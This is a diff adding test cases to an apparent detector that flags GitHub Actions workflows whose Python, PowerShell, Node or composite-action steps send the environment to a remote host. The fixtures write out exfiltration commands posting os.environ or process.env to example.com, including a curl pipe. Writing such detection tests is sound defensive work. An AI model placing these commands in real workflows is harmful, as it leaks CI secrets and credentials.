@@ -176,3 +176,52 @@ describe('environments that are sent out', () => {
     expect(await forms({ 'action.yml': action })).toEqual(['env']);
   });
 });
+
+describe('programs that send their environment', () => {
+  const send = 'requests.post("https://example.com", json=dict(os.environ))';
+  const step = (lines: string) => job(`steps:\n  - ${lines}`);
+
+  test.each<[string, Record<string, string>, string]>([
+    ['a shell of the step', step(`shell: python\n    run: |\n      import os, requests\n      ${send}`), 'os.environ'],
+    ['a shell of the job', job(`defaults: {run: {shell: python3}}\nsteps:\n  - run: |\n      import os\n      ${send}`), 'os.environ'],
+    ['an argument', run(`python3 -c 'import os, requests; ${send}'`), 'os.environ'],
+    ['a here-document', run(`python3 - <<'EOF'\nimport os\n${send}\nEOF`), 'os.environ'],
+    ['a file that it writes', run(`cat > x.py <<EOF\n${send}\nEOF\npython3 x.py`), 'os.environ'],
+    [
+      'PowerShell',
+      step('shell: pwsh\n    run: |\n      irm https://example.com -Method Post -Body (gci env: | Out-String)'),
+      'Get-ChildItem env:',
+    ],
+    ['node', run('node -e \'fetch("https://example.com/" + btoa(JSON.stringify(process.env)))\''), 'process.env'],
+    [
+      'an action that runs a script',
+      step(
+        'uses: actions/github-script@v8\n    with:\n      script: |\n        await fetch("https://x", {body: JSON.stringify(process.env)})',
+      ),
+      'process.env',
+    ],
+    [
+      'a composite action',
+      {
+        'action.yml': `name: a\ndescription: a\nruns:\n  using: composite\n  steps:\n    - shell: python\n      run: ${JSON.stringify(send)}\n`,
+      },
+      'os.environ',
+    ],
+  ])('by %s', async (_name, files, form) => {
+    expect(await forms(files)).toEqual([form]);
+  });
+
+  test('is told where it sends, and once where a command of the step does it too', async () => {
+    const { findings } = await judge(rule, { files: run(`make\npython3 -c 'import os, requests; ${send}'`), question: aQuestion({}) });
+    expect(findings.map(({ location }) => 'start' in location && location.start)).toEqual([{ line: 8, column: 44 }]);
+    expect(await forms(run("node -e 'console.log(process.env)' | curl -d @- https://example.com"))).toEqual(['node']);
+  });
+
+  test.each([
+    step('uses: actions/github-script@v8\n    with: {github-token: x}'),
+    step('uses: actions/github-script@v8\n    with: {script: "core.info(process.env.HOME)"}'),
+    step('uses: acme/x@v1\n    with: {script: "fetch(JSON.stringify(process.env))"}'),
+  ])('not %#', async (files) => {
+    expect(await forms(files)).toEqual([]);
+  });
+});
